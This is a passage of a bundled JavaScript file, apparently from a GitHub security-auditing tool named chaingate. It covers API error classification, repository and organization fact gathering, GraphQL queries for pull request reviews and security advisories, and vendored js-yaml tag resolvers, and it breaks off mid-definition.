import { createRequire as __chaingateCreateRequire } from 'node:module'; const require = __chaingateCreateRequire(import.meta.url);
import {
  ConfigurationError,
  TOOL,
  errorMessage,
  jsonText,
  textField,
  textLine,
  writeError
} from "./chunk-MDAZFAAI.js";

// src/github/api-error.ts
var ApiFault = class extends Error {
  kind;
  retryable;
  constructor(kind, message2, options = {}) {
    super(message2, options.cause === void 0 ? void 0 : { cause: options.cause });
    this.kind = kind;
    this.retryable = options.retryable ?? false;
    this.name = this.retryable ? "ApiFault" : "AbortError";
  }
};
function isApiFault(error) {
  return error instanceof ApiFault;
}
function faultIn(error) {
  let current = error;
  for (let depth = 0; depth < 5 && current; depth += 1) {
    if (current instanceof ApiFault) return current;
    current = current.cause;
  }
  return void 0;
}
function graphqlErrors(error) {
  const candidates = [
    error.errors,
    error.data?.errors,
    error.response?.data?.errors
  ];
  for (const candidate of candidates) if (Array.isArray(candidate) && candidate.length > 0) return candidate;
  return void 0;
}
function acceptedPermissionsOf(headers) {
  const header = headers?.["x-accepted-github-permissions"];
  if (typeof header !== "string" || header.trim() === "") return void 0;
  return header.split(/[;,]/).map((part) => part.trim()).filter(Boolean).map((part) => part.replace("=", ": ")).join(", ");
}
function answerText(response, fallback) {
  const data = response?.data;
  if (data && typeof data === "object" && typeof data.message === "string") return shorten(data.message);
  const type = String(response?.headers?.["content-type"] ?? "");
  if (typeof data === "string" && data.trim() !== "") return type.includes("html") || /^\s*</.test(data) ? "an HTML page, not JSON" : "a body that is not JSON";
  return shorten(fallback);
}
function shorten(text) {
  const line = (text.split("\n")[0] ?? "").replace(/ - https?:\/\/\S+$/, "").trim();
  return line.length > 160 ? `${line.slice(0, 157)}...` : line;
}
function isRateLimitAnswer(status, message2, headers) {
  if (status === 429) return true;
  if (status !== 403) return false;
  return /rate limit/i.test(message2) || headers?.["x-ratelimit-remaining"] === "0" || headers?.["retry-after"] !== void 0;
}
function requestedWait(headers, now = Date.now()) {
  const retryAfter = Number(headers?.["retry-after"]);
  if (Number.isFinite(retryAfter) && retryAfter >= 0) return Math.ceil(retryAfter);
  const reset = Number(headers?.["x-ratelimit-reset"]);
  if (headers?.["x-ratelimit-remaining"] === "0" && Number.isFinite(reset)) return Math.max(0, Math.ceil(reset - now / 1e3));
  return void 0;
}
function rateLimitMessage(headers, secondary) {
  const wait = requestedWait(headers);
  const what2 = secondary ? "GitHub API secondary rate limit reached" : "GitHub API rate limit exhausted";
  return wait === void 0 ? what2 : `${what2} (GitHub asked to wait ${wait} s, longer than chaingate waits)`;
}
function classifyApiError(error) {
  const fault = faultIn(error);
  if (fault) return { kind: fault.kind, message: fault.message };
  if (typeof error !== "object" || error === null) return { kind: "other", message: String(error) };
  const e = error;
  const gql = graphqlErrors(e);
  if (gql && !(typeof e.status === "number" && e.status >= 400)) {
    const types = [...new Set(gql.map((item) => item.type ?? "ERROR"))];
    const first = shorten(gql[0]?.message ?? "error");
    const base = { graphqlTypes: types };
    if (types.includes("RATE_LIMITED")) return { ...base, kind: "rate-limit", message: `GitHub's GraphQL API rate limit exhausted (${first})` };
    if (types.every((type) => type === "NOT_FOUND")) return { ...base, kind: "not-found", message: `GitHub's GraphQL API answered NOT_FOUND (${first})` };
    if (types.some((type) => type === "FORBIDDEN" || type === "INSUFFICIENT_SCOPES")) {
      return { ...base, kind: "permission", message: `GitHub's GraphQL API answered ${types.join(", ")} (${first})` };
    }
    return { ...base, kind: "server-error", message: `GitHub's GraphQL API answered errors: ${types.join(", ")} (${first})` };
  }
  if (typeof e.status !== "number") return { kind: "other", message: errorMessage(error) };
  const status = e.status;
  const response = e.response;
  if (!response) return { kind: "network", message: networkMessage(e) };
  const headers = response.headers;
  const message2 = answerText(response, errorMessage(error));
  const accepted = acceptedPermissionsOf(headers);
  const withPermissions = accepted ? { acceptedPermissions: accepted } : {};
  if (status === 401) return { kind: "unauthorized", status, message: `the token was rejected (401 ${message2})` };
  if (isRateLimitAnswer(status, message2, headers)) return { kind: "rate-limit", status, message: rateLimitMessage(headers, /secondary/i.test(message2)) };
  if (status === 403) return { kind: "permission", status, message: `GitHub answered 403 (${message2})`, ...withPermissions };
  if (status === 404) return { kind: "not-found", status, message: `GitHub answered 404 (${message2})`, ...withPermissions };
  if (status >= 500) return { kind: "server-error", status, message: `GitHub answered ${status} (${message2})` };
  if (status >= 300 && status < 400) return { kind: "redirect", status, message: `GitHub answered ${status} without a usable Location` };
  return { kind: "client-error", status, message: `GitHub answered ${status} (${message2})`, ...withPermissions };
}
function networkMessage(error) {
  let host2 = "the GitHub API";
  try {
    if (error.request?.url) host2 = new URL(error.request.url).host;
  } catch {
  }
  const code = causeCode(error);
  if (code === "ECONNREFUSED") return `could not connect to ${host2} (connection refused)`;
  if (code === "ENOTFOUND" || code === "EAI_AGAIN") return `could not connect to ${host2} (the name does not resolve: ${code})`;
  if (code === "ECONNRESET" || code === "UND_ERR_SOCKET") return `the connection to ${host2} was closed before GitHub answered (${code})`;
  return `could not connect to ${host2}${code ? ` (${code})` : ` (${shorten(errorMessage(error))})`}`;
}
function causeCode(error) {
  let current = error;
  for (let depth = 0; depth < 6 && current && typeof current === "object"; depth += 1) {
    const code = current.code;
    if (typeof code === "string") return code;
    current = current.cause;
  }
  return void 0;
}

// src/model/fact.ts
function known(value, gaps = []) {
  return gaps.length > 0 ? { known: true, value, gaps } : { known: true, value };
}
function unknownFact(cause, reason, permission) {
  return permission ? { known: false, cause, reason, permission } : { known: false, cause, reason };
}
function noTarget() {
  return unknownFact("no-target", "no repository was named (use --repo owner/name or GITHUB_REPOSITORY)");
}
function defineFact(id, fetch, options = {}) {
  return options.scope ? { id, scope: options.scope, fetch } : { id, fetch };
}
function isGroupScoped(def) {
  return def.scope === "workflow-group";
}

// src/github/api-fact.ts
function isApiError(error) {
  if (typeof error !== "object" || error === null || isApiFault(error) || isApiFault(error.cause)) return false;
  const candidate = error;
  return typeof candidate.status === "number" && typeof candidate.response === "object" && candidate.response !== null;
}
function acceptedPermissions(error) {
  return acceptedPermissionsOf(error.response?.headers);
}
function factFromApiError(error, options) {
  if (isApiError(error)) {
    const mapped = options.onStatus?.(error);
    if (mapped) return mapped;
    if (error.status === 404) {
      const notFound = options.onNotFound?.(error);
      if (notFound) return notFound;
    }
  }
  const failure = classifyApiError(error);
  const reason = `could not read ${options.what}: ${failure.message}`;
  switch (failure.kind) {
    case "unauthorized":
      return unknownFact("permission", reason);
    case "permission":
    case "not-found":
      return unknownFact("permission", reason, failure.acceptedPermissions ?? options.permission);
    default:
      return unknownFact("api-error", reason);
  }
}
async function apiFact(client, call, options) {
  if (!client) {
    return unknownFact("no-token", `${options.what} was not read: no GitHub token (offline run)`, options.permission);
  }
  try {
    return known(await call(client));
  } catch (error) {
    return factFromApiError(error, options);
  }
}

// src/github/facts/repository.ts
var repositoryFact = defineFact("github.repository", async (ctx) => {
  if (!ctx.target) return noTarget();
  const { owner, repo } = ctx.target;
  return tieredFact(ctx, "elevated", async (client) => (await client.octokit.rest.repos.get({ owner, repo })).data, {
    what: `repository ${owner}/${repo}`,
    permission: "Metadata: read",
    // security_and_analysis is shown to admins only: if the first token does not get it, the other may.
    complete: (repository) => Boolean(repository.security_and_analysis)
  });
});

// src/github/facts/support.ts
function clientsFor(ctx, tier) {
  const ordered = tier === "elevated" ? [ctx.elevated, ctx.github] : [ctx.github, ctx.elevated];
  const out = [];
  for (const client of ordered) if (client && !out.includes(client)) out.push(client);
  return out;
}
function isGhes(client) {
  if (!client) return false;
  try {
    const url = new URL(client.apiUrl);
    if (url.hostname === "api.github.com") return false;
    if (/^api\.[^.]+\.ghe\.com$/.test(url.hostname)) return false;
    return url.pathname.replace(/\/+$/, "").endsWith("/api/v3");
  } catch {
    return false;
  }
}
function isPermissionError(error) {
  const failure = classifyApiError(error);
  if (failure.kind === "unauthorized" || failure.kind === "permission" || failure.kind === "not-found") return true;
  return failure.kind === "client-error" && failure.status === 422;
}
async function tieredFact(ctx, tier, call, options) {
  const clients = clientsFor(ctx, tier);
  if (clients.length === 0) return apiFact(null, call, options);
  let first;
  let partial;
  for (const client of clients) {
    try {
      const value = await call(client);
      if (!options.complete || options.complete(value)) return known(value);
      partial ??= known(value);
    } catch (error) {
      const fact = mapError(error, options, client);
      if (fact.known) return fact;
      if (fact.cause === "not-available" && !(isApiError(error) && error.status === 404)) return fact;
      first ??= fact;
      if (!isPermissionError(error)) return partial ?? first;
    }
  }
  return partial ?? first;
}
function mapError(error, options, client) {
  const fact = factFromApiError(error, options);
  if (!fact.known && options.ghesFeature && isGhes(client) && isApiError(error) && error.status === 404 && !options.onNotFound?.(error)) {
    return unknownFact(
      "not-available",
      `could not read ${options.what}: ${options.ghesFeature} is not available on this GitHub Enterprise Server (404), or the token lacks ${options.permission}`,
      options.permission
    );
  }
  return fact;
}
async function listAll(client, route, parameters, cap = Number.POSITIVE_INFINITY) {
  const items2 = [];
  let truncated = false;
  let response = await client.octokit.request(route, { per_page: 100, ...parameters });
  for (let page = 1; ; page += 1) {
    const data = response.data;
    if (!Array.isArray(data)) throw new ApiFault("malformed", `page ${page} of ${route} is not a list`);
    items2.push(...data);
    const next = nextPage(response.headers.link);
    if (items2.length >= cap) {
      truncated = items2.length > cap || next !== void 0;
      break;
    }
    if (!next) break;
    response = await client.octokit.request({ method: "GET", url: next });
  }
  return { items: truncated ? items2.slice(0, cap) : items2, truncated };
}
function nextPage(link) {
  if (typeof link !== "string") return void 0;
  return /<([^>]+)>;\s*rel="next"/.exec(link)?.[1];
}
var defaultBranchFact = defineFact("github.default-branch", async (ctx) => {
  const repository = await ctx.get(repositoryFact);
  return repository.known ? known(repository.value.default_branch) : repository;
});
var ownerFact = defineFact("github.owner", async (ctx) => {
  const repository = await ctx.get(repositoryFact);
  if (!repository.known) return repository;
  const owner = repository.value.owner;
  return known({ login: owner.login, type: owner.type === "Organization" ? "Organization" : "User" });
});
var organizationLoginFact = defineFact("github.organization-login", async (ctx) => {
  const owner = await ctx.get(ownerFact);
  if (!owner.known) return owner;
  if (owner.value.type !== "Organization") {
    return unknownFact(
      "not-applicable",
      `${owner.value.login} is a personal account, not an organization: organization settings (2FA requirement, owners, base permission...) do not exist for it, so they cannot be checked; turn the accounts rules off in the policy for personal repositories`
    );
  }
  return known(owner.value.login);
});
function describeError(error) {
  return classifyApiError(error).message;
}
function ageInDays(iso, now) {
  if (!iso) return null;
  const time = Date.parse(iso);
  if (Number.isNaN(time)) return null;
  return Math.floor((now.getTime() - time) / 864e5);
}

// src/github/graphql.ts
var SAML_QUERY = `query chaingateSaml($login: String!) {
  organization(login: $login) {
    samlIdentityProvider { ssoUrl }
  }
}`;
var PULL_REQUEST_QUERY = `query chaingatePullRequest($owner: String!, $name: String!, $number: Int!) {
  repository(owner: $owner, name: $name) {
    pullRequest(number: $number) {
      number
      headRefOid
      author { __typename login }
      reviews(first: 100) {
        pageInfo { hasNextPage }
        nodes { author { __typename login } state submittedAt commit { oid } }
      }
      commits(first: 100) {
        totalCount
        pageInfo { hasNextPage }
        nodes {
          commit {
            oid
            author { user { login } }
            signature { isValid state }
          }
        }
      }
    }
  }
}`;
var VULNERABILITIES_FRAGMENT = `fragment chaingateVulnerabilities on SecurityVulnerabilityConnection {
  pageInfo { hasNextPage endCursor }
  nodes {
    package { ecosystem name }
    vulnerableVersionRange
    firstPatchedVersion { identifier }
    advisory {
      ghsaId classification summary severity publishedAt updatedAt withdrawnAt permalink
      identifiers { type value }
      cvssSeverities { cvssV3 { vectorString } cvssV4 { vectorString } }
      epss { percentage percentile }
    }
  }
}`;
function securityVulnerabilitiesQuery(items2) {
  const variables = [];
  const fields = [];
  items2.forEach((item, index) => {
    if (!/^[A-Z]+$/.test(item.ecosystem)) throw new Error(`not a GraphQL ecosystem name: ${item.ecosystem}`);
    variables.push(`$p${index}: String!`);
    if (item.after) variables.push(`$a${index}: String!`);
    fields.push(
      `  v${index}: securityVulnerabilities(ecosystem: ${item.ecosystem}, package: $p${index}, classifications: [GENERAL, MALWARE], first: 100${item.after ? `, after: $a${index}` : ""}) { ...chaingateVulnerabilities }`
    );
  });
  return `query chaingateAdvisories(${variables.join(", ")}) {
${fields.join("\n")}
}
${VULNERABILITIES_FRAGMENT}`;
}
function graphql(client, query, variables) {
  return client.octokit.graphql(query, { ...variables, baseUrl: client.graphqlUrl.replace(/\/graphql\/?$/, "") });
}
function actorLogin(actor) {
  if (!actor) return null;
  return actor.__typename === "Bot" && !actor.login.endsWith("[bot]") ? `${actor.login}[bot]` : actor.login;
}

// node_modules/js-yaml/dist/js-yaml.mjs
var NOT_RESOLVED = /* @__PURE__ */ Symbol("NOT_RESOLVED");
function defineScalarTag(tagName, options) {
  return {
    tagName,
    nodeKind: "scalar",
    implicit: options.implicit ?? false,
    matchByTagPrefix: options.matchByTagPrefix ?? false,
    implicitFirstChars: options.implicitFirstChars ?? null,
    resolve: options.resolve,
    identify: options.identify,
    represent: options.represent ?? ((data) => String(data)),
    representTagName: options.representTagName ?? (() => tagName)
  };
}
function defineSequenceTag(tagName, options) {
  const carrierIsResult = options.finalize === void 0;
  return {
    tagName,
    nodeKind: "sequence",
    implicit: false,
    matchByTagPrefix: options.matchByTagPrefix ?? false,
    create: options.create,
    addItem: options.addItem,
    finalize: options.finalize ?? ((carrier) => carrier),
    carrierIsResult,
    identify: options.identify,
    represent: options.represent ?? ((data) => data),
    representTagName: options.representTagName ?? (() => tagName)
  };
}
function defineMappingTag(tagName, options) {
  const carrierIsResult = options.finalize === void 0;
  return {
    tagName,
    nodeKind: "mapping",
    implicit: false,
    matchByTagPrefix: options.matchByTagPrefix ?? false,
    create: options.create,
    addPair: options.addPair,
    has: options.has,
    keys: options.keys,
    get: options.get,
    finalize: options.finalize ?? ((carrier) => carrier),
    carrierIsResult,
    identify: options.identify,
    represent: options.represent ?? ((data) => data),
    representTagName: options.representTagName ?? (() => tagName)
  };
}
var strTag = defineScalarTag("tag:yaml.org,2002:str", {
  resolve: (source) => source,
  identify: (data) => typeof data === "string"
});
var NULL_VALUES$1 = [
  "",
  "~",
  "null",
  "Null",
  "NULL"
];
var nullCoreTag = defineScalarTag("tag:yaml.org,2002:null", {
  implicit: true,
  implicitFirstChars: [
    "",
    "~",
    "n",
    "N"
  ],
  resolve: (source) => {
    if (NULL_VALUES$1.indexOf(source) !== -1) return null;
    return NOT_RESOLVED;
  },
  identify: (object) => object === null,
  represent: () => "null"
});
var nullJsonTag = defineScalarTag("tag:yaml.org,2002:null", {
  implicit: true,
  implicitFirstChars: ["n"],
  resolve: (source, isExplicit) => {
    if (source === "null" || isExplicit && source === "") return null;
    return NOT_RESOLVED;
  },
  identify: (object) => object === null,
  represent: () => "null"
});
var NULL_VALUES = [
  "",
  "~",
  "null",
  "Null",
  "NULL"
];
var nullYaml11Tag = defineScalarTag("tag:yaml.org,2002:null", {
  implicit: true,
  implicitFirstChars: [
    "",
    "~",
    "n",
    "N"
  ],
  resolve: (source) => {
    if (NULL_VALUES.indexOf(source) !== -1) return null;
    return NOT_RESOLVED;
  },
  identify: (object) => object === null,
  represent: () => "null"
});
var TRUE_VALUES$2 = [
  "true",
  "True",
  "TRUE"
];
var FALSE_VALUES$2 = [
  "false",
  "False",
  "FALSE"
];
var boolCoreTag = defineScalarTag("tag:yaml.org,2002:bool", {
  implicit: true,
  implicitFirstChars: [
    "t",
    "T",
    "f",
    "F"
  ],
  resolve: (source) => {
    if (TRUE_VALUES$2.indexOf(source) !== -1) return true;
    if (FALSE_VALUES$2.indexOf(source) !== -1) return false;
    return NOT_RESOLVED;
  },
  identify: (object) => Object.prototype.toString.call(object) === "[object Boolean]",
  represent: (object) => object ? "true" : "false"
});
var TRUE_VALUES$1 = ["true"];
var FALSE_VALUES$1 = ["false"];
var boolJsonTag = defineScalarTag("tag:yaml.org,2002:bool", {
  implicit: true,
  implicitFirstChars: ["t", "f"],
  resolve: (source) => {
    if (TRUE_VALUES$1.indexOf(source) !== -1) return true;
    if (FALSE_VALUES$1.indexOf(source) !== -1) return false;
    return NOT_RESOLVED;
  },
  identify: (object) => Object.prototype.toString.call(object) === "[object Boolean]",
  represent: (object) => object ? "true" : "false"
});
var TRUE_VALUES = [
  "true",
  "True",
  "TRUE",
  "y",
  "Y",
  "yes",
  "Yes",
  "YES",
  "on",
  "On",
  "ON"
];
var FALSE_VALUES = [
  "false",
  "False",
  "FALSE",
  "n",
  "N",
  "no",
  "No",
  "NO",
  "off",
  "Off",
  "OFF"
];
var boolYaml11Tag = defineScalarTag("tag:yaml.org,2002:bool", {
  implicit: true,
  implicitFirstChars: [
    "y",
    "Y",
    "n",
    "N",
    "t",
    "T",
    "f",
    "F",
    "o",
    "O"
  ],
  resolve: (source) => {
    if (TRUE_VALUES.indexOf(source) !== -1) return true;
    if (FALSE_VALUES.indexOf(source) !== -1) return false;
    return NOT_RESOLVED;
  },
  identify: (object) => Object.prototype.toString.call(object) === "[object Boolean]",
  represent: (object) => object ? "true" : "false"
});
var YAML_INTEGER_IMPLICIT_PATTERN$1 = /* @__PURE__ */ new RegExp("^(?:0o[0-7]+|0x[0-9a-fA-F]+|[-+]?[0-9]+)$");
var YAML_INTEGER_EXPLICIT_PATTERN$1 = /* @__PURE__ */ new RegExp("^(?:[-+]?0b[0-1]+|[-+]?0o[0-7]+|[-+]?0x[0-9a-fA-F]+|[-+]?[0-9]+)$");
function parseYamlInteger$2(source) {
  let value = source;
  let sign = 1;
  if (value[0] === "-" || value[0] === "+") {
    if (value[0] === "-") sign = -1;
    value = value.slice(1);
  }
  if (value.startsWith("0b")) return sign * parseInt(value.slice(2), 2);
  if (value.startsWith("0o")) return sign * parseInt(value.slice(2), 8);
  if (value.startsWith("0x")) return sign * parseInt(value.slice(2), 16);
  return sign * parseInt(value, 10);
}
function resolveYamlInteger$2(source, isExplicit) {
  if (isExplicit) {
    if (!YAML_INTEGER_EXPLICIT_PATTERN$1.test(source)) return NOT_RESOLVED;
  } else if (!YAML_INTEGER_IMPLICIT_PATTERN$1.test(source)) return NOT_RESOLVED;
  const result = parseYamlInteger$2(source);
  return Number.isFinite(result) ? result : NOT_RESOLVED;
}
var intCoreTag = defineScalarTag("tag:yaml.org,2002:int", {
  implicit: true,
  implicitFirstChars: [
    "-",
    "+",
    ..."0123456789"
  ],
  resolve: resolveYamlInteger$2,
  identify: (object) => Number.isInteger(object) && !Object.is(object, -0) && object.toString(10).indexOf("e") < 0,
  represent: (object) => object.toString(10)
});
var YAML_INTEGER_IMPLICIT_PATTERN = /* @__PURE__ */ new RegExp("^-?(?:0|[1-9][0-9]*)$");
var YAML_INTEGER_EXPLICIT_PATTERN = /* @__PURE__ */ new RegExp("^(?:[-+]?0b[0-1]+|[-+]?0o[0-7]+|[-+]?0x[0-9a-fA-F]+|[-+]?[0-9]+)$");
function parseYamlInteger$1(source) {
  let value = source;
  let sign = 1;
  if (value[0] === "-" || value[0] === "+") {
    if (value[0] === "-") sign = -1;
    value = value.slice(1);
  }
  if (value.startsWith("0b")) return sign * parseInt(value.slice(2), 2);
  if (value.startsWith("0o")) return sign * parseInt(value.slice(2), 8);
  if (value.startsWith("0x")) return sign * parseInt(value.slice(2), 16);
  return sign * parseInt(value, 10);
}
function resolveYamlInteger$1(source, isExplicit) {
  if (isExplicit) {
    if (!YAML_INTEGER_EXPLICIT_PATTERN.test(source)) return NOT_RESOLVED;
  } else if (!YAML_INTEGER_IMPLICIT_PATTERN.test(source)) return NOT_RESOLVED;
  const result = parseYamlInteger$1(source);
  return Number.isFinite(result) ? result : NOT_RESOLVED;
}
var intJsonTag = defineScalarTag("tag:yaml.org,2002:int", {
  implicit: true,
  implicitFirstChars: ["-", ..."0123456789"],
  resolve: resolveYamlInteger$1,
  identify: (object) => Number.isInteger(object) && !Object.is(object, -0) && object.toString(10).indexOf("e") < 0,
  represent: (object) => object.toString(10)
});
var YAML_INTEGER_PATTERN = /* @__PURE__ */ new RegExp("^(?:[-+]?0b[0-1_]+|[-+]?0[0-7_]+|[-+]?0x[0-9a-fA-F_]+|[-+]?[0-9][0-9_]*(?::[0-5]?[0-9])+|[-+]?(?:0|[1-9][0-9_]*))$");
function parseYamlInteger(source) {
  let value = source.replace(/_/g, "");
  let sign = 1;
  if (value[0] === "-" || value[0] === "+") {
    if (value[0] === "-") sign = -1;
    value = value.slice(1);
  }
  if (value.startsWith("0b")) return sign * parseInt(value.slice(2), 2);
  if (value.startsWith("0x")) return sign * parseInt(value.slice(2), 16);
  if (value.includes(":")) {
    let result = 0;
    for (const part of value.split(":")) result = result * 60 + Number(part);
    return sign * result;
  }
  if (value !== "0" && value[0] === "0") return sign * parseInt(value, 8);
  return sign * parseInt(value, 10);
}
function resolveYamlInteger(source) {
  if (!YAML_INTEGER_PATTERN.test(source)) return NOT_RESOLVED;
  const result = parseYamlInteger(source);
  return Number.isFinite(result) ? result : NOT_RESOLVED;
}
var intYaml11Tag = defineScalarTag("tag:yaml.org,2002:int", {
  implicit: true,
  implicitFirstChars: [
    "-",
    "+",
    ..."0123456789"
  ],
  resolve: resolveYamlInteger,
  identify: (object) => Number.isInteger(object) && !Object.is(object, -0) && object.toString(10).indexOf("e") < 0,
  represent: (object) => object.toString(10)
});
var YAML_FLOAT_PATTERN$1 = /* @__PURE__ */ new RegExp("^(?:[-+]?[0-9]+(?:\\.[0-9]*)?(?:[eE][-+]?[0-9]+)?|[-+]?\\.[0-9]+(?:[eE][-+]?[0-9]+)?|[-+]?\\.(?:inf|Inf|INF)|\\.(?:nan|NaN|NAN))$");
var YAML_FLOAT_SPECIAL_PATTERN$1 = /* @__PURE__ */ new RegExp("^(?:[-+]?\\.(?:inf|Inf|INF)|\\.(?:nan|NaN|NAN))$");
function resolveYamlFloat$2(source) {
  if (!YAML_FLOAT_PATTERN$1.test(source)) return NOT_RESOLVED;
  let value = source.toLowerCase();
  const sign = value[0] === "-" ? -1 : 1;
  if ("+-".includes(value[0])) value = value.slice(1);
  if (value === ".inf") return sign === 1 ? Number.POSITIVE_INFINITY : Number.NEGATIVE_INFINITY;
  if (value === ".nan") return NaN;
  const result = sign * parseFloat(value);
  if (Number.isFinite(result) || YAML_FLOAT_SPECIAL_PATTERN$1.test(source)) return result;
  return NOT_RESOLVED;
}
function representYamlFloat$2(object) {
  if (isNaN(object)) return ".nan";
  if (object === Number.POSITIVE_INFINITY) return ".inf";
  if (object === Number.NEGATIVE_INFINITY) return "-.inf";
  if (Object.is(object, -0)) return "-0.0";
  const result = object.toString(10);
  return /^[-+]?[0-9]+e/.test(result) ? result.replace("e", ".e") : result;
}
var floatCoreTag = defineScalarTag("tag:yaml.org,2002:float", {
  implicit: true,
  implicitFirstChars: [
    "-",
    "+",
    ".",
    ..."0123456789"
  ],
  resolve: resolveYamlFloat$2,
  identify: (object) => typeof object === "number" && (!Number.isInteger(object) || Object.is(object, -0) || object.toString(10).indexOf("e") >= 0),
  represent: representYamlFloat$2
});
var YAML_FLOAT_IMPLICIT_PATTERN = /* @__PURE__ */ new RegExp("^-?(?:0|[1-9][0-9]*)(?:\\.[0-9]*)?(?:[eE][-+]?[0-9]+)?$");
var YAML_FLOAT_EXPLICIT_PATTERN = /* @__PURE__ */ new RegExp("^(?:[-+]?[0-9]+(?:\\.[0-9]*)?(?:[eE][-+]?[0-9]+)?|[-+]?\\.[0-9]+(?:[eE][-+]?[0-9]+)?|[-+]?\\.(?:inf|Inf|INF)|\\.(?:nan|NaN|NAN))$");
function resolveYamlFloat$1(source, isExplicit) {
  if (isExplicit) {
    if (!YAML_FLOAT_EXPLICIT_PATTERN.test(source)) return NOT_RESOLVED;
    let value = source.toLowerCase();
    const sign = value[0] === "-" ? -1 : 1;
    if ("+-".includes(value[0])) value = value.slice(1);
    if (value === ".inf") return sign === 1 ? Number.POSITIVE_INFINITY : Number.NEGATIVE_INFINITY;
    if (value === ".nan") return NaN;
    const result2 = sign * parseFloat(value);
    return Number.isFinite(result2) ? result2 : NOT_RESOLVED;
  }
  if (!YAML_FLOAT_IMPLICIT_PATTERN.test(source)) return NOT_RESOLVED;
  const result = Number(source);
  if (Number.isFinite(result)) return result;
  return NOT_RESOLVED;
}
function representYamlFloat$1(object) {
  if (isNaN(object)) return ".nan";
  if (object === Number.POSITIVE_INFINITY) return ".inf";
  if (object === Number.NEGATIVE_INFINITY) return "-.inf";
  if (Object.is(object, -0)) return "-0.0";
  const result = object.toString(10);
  return /^[-+]?[0-9]+e/.test(result) ? result.replace("e", ".e") : result;
}
var floatJsonTag = defineScalarTag("tag:yaml.org,2002:float", {
  implicit: true,
  implicitFirstChars: ["-", ..."0123456789"],
  resolve: resolveYamlFloat$1,
  identify: (object) => typeof object === "number" && (!Number.isInteger(object) || Object.is(object, -0) || object.toString(10).indexOf("e") >= 0),
  represent: representYamlFloat$1
});
var YAML_FLOAT_PATTERN = /* @__PURE__ */ new RegExp("^(?:[-+]?(?:(?:[0-9][0-9_]*)?\\.[0-9_]*)(?:[eE][-+][0-9]+)?|[-+]?[0-9][0-9_]*(?::[0-5]?[0-9])+\\.[0-9_]*|[-+]?\\.(?:inf|Inf|INF)|\\.(?:nan|NaN|NAN))$");
var YAML_FLOAT_SPECIAL_PATTERN = /* @__PURE__ */ new RegExp("^(?:[-+]?\\.(?:inf|Inf|INF)|\\.(?:nan|NaN|NAN))$");
function resolveYamlFloat(source) {
  if (!YAML_FLOAT_PATTERN.test(source)) return NOT_RESOLVED;
  let value = source.toLowerCase().replace(/_/g, "");
  const sign = value[0] === "-" ? -1 : 1;
  if ("+-".includes(value[0])) value = value.slice(1);
  if (value === ".inf") return sign === 1 ? Number.POSITIVE_INFINITY : Number.NEGATIVE_INFINITY;
  if (value === ".nan") return NaN;
  let result = 0;
  if (value.includes(":")) {
    for (const part of value.split(":")) result = result * 60 + Number(part);
    result *= sign;
  } else result = sign * parseFloat(value);
  if (Number.isFinite(result) || YAML_FLOAT_SPECIAL_PATTERN.test(source)) return result;
  return NOT_RESOLVED;
}
function representYamlFloat(object) {
  if (isNaN(object)) return ".nan";
  if (object === Number.POSITIVE_INFINITY) return ".inf";
  if (object === Number.NEGATIVE_INFINITY) return "-.inf";
  if (Object.is(object, -0)) return "-0.0";
  const result = object.toString(10);
  return /^[-+]?[0-9]+e/.test(result) ? result.replace("e", ".e") : result;
}
var floatYaml11Tag = defineScalarTag("tag:yaml.org,2002:float", {
  implicit: true,
  implicitFirstChars: [
    "-",
    "+",
    ".",
    ..."0123456789"
  ],
  resolve: resolveYamlFloat,
  identify: (object) => typeof object === "number" && (!Number.isInteger(object) || Object.is(object, -0) || object.toString(10).indexOf("e") >= 0),
  represent: representYamlFloat
});
var mergeTag = defineScalarTag("tag:yaml.org,2002:merge", {
  implicit: true,
  implicitFirstChars: ["<"],
  resolve: (source, isExplicit) => {
    if (source === "<<" || isExplicit && source === "") return "<<";
    return NOT_RESOLVED;
  },
  identify: () => false
});
var BASE64_PATTERN = /^[A-Za-z0-9+/]*={0,2}$/;
function resolveYamlBinary(source) {
  const input2 = source.replace(/\s/g, "");
  if (input2.length % 4 !== 0 || !BASE64_PATTERN.test(input2)) return NOT_RESOLVED;
  const binary = atob(input2);
  const result = new Uint8Array(binary.length);
  for (let index = 0; index < binary.length; index++) result[index] = binary.charCodeAt(index);
  return result;
}
function representYamlBinary(object) {
  let binary = "";
  for (let index = 0; index < object.length; index++) binary += String.fromCharCode(object[index]);
  return btoa(binary);
}
var binaryTag = defineScalarTag("tag:yaml.org,2002:binary", {
  resolve: resolveYamlBinary,
  identify: (object) => Object.prototype.toString.call(object) === "[object Uint8Array]",
  represent: representYamlBinary
});
var YAML_DATE_REGEXP = /* @__PURE__ */ new RegExp("^([0-9][0-9][0-9][0-9])-([0-9][0-9])-([0-9][0-9])$");
var YAML_TIMESTAMP_REGEXP = /* @__PURE__ */ new RegExp("^([0-9][0-9][0-9][0-9])-([0-9][0-9]?)-([0-9][0-9]?)(?:[Tt]|[ \\t]+)([0-9][0-9]?):([0-9][0-9]):([0-9][0-9])(?:\\.([0-9]*))?(?:[ \\t]*(Z|([-+])([0-9][0-9]?)(?::([0-9][0-9]))?))?$");
function makeUtcDate(year, month, day, hour = 0, minute = 0, second = 0, fraction = 0) {
  const date = new Date(Date.UTC(year, month, day, hour, minute, second, fraction));
  date.setUTCFullYear(year, month, day);
  return date;
}
function resolveYamlTimestamp(source) {
  let match2 = YAML_DATE_REGEXP.exec(source);
  if (match2 === null) match2 = YAML_TIMESTAMP_REGEXP.exec(source);
  if (match2 === null) return NOT_RESOLVED;
  const year = +match2[1];
  const month = +match2[2] - 1;
  const day = +match2[3];
  if (!match2[4]) {
    const date2 = makeUtcDate(year, month, day);
    if (date2.getUTCFullYear() !== year || date2.getUTCMonth() !== month || date2.getUTCDate() !== day) return NOT_RESOLVED;
    return date2;
  }
  const hour = +match2[4];
  const minute = +match2[5];
  const second = +match2[6];
  let fraction = 0;
  if (hour > 23 || minute > 59 || second > 59) return NOT_RESOLVED;
  if (match2[7]) {
    let value = match2[7].slice(0, 3);
    while (value.length < 3) value += "0";
    fraction = +value;
  }
  const date = makeUtcDate(year, month, day, hour, minute, second, fraction);
  if (date.getUTCFullYear() !== year || date.getUTCMonth() !== month || date.getUTCDate() !== day) return NOT_RESOLVED;
  if (match2[9]) {
    const offsetHour = +match2[10];
    const offsetMinute = +(match2[11] || 0);
    if (offsetHour > 23 || offsetMinute > 59) return NOT_RESOLVED;
    const offset = (offsetHour * 60 + offsetMinute) * 6e4;
    date.setTime(date.getTime() - (match2[9] === "-" ? -offset : offset));
  }
  return date;
}
var timestampTag = defineScalarTag("tag:yaml.org,2002:timestamp", {
  implicit: true,
  implicitFirstChars: [..."0123456789"],
  resolve: resolveYamlTimestamp,
  identify: (object) => object instanceof Date,
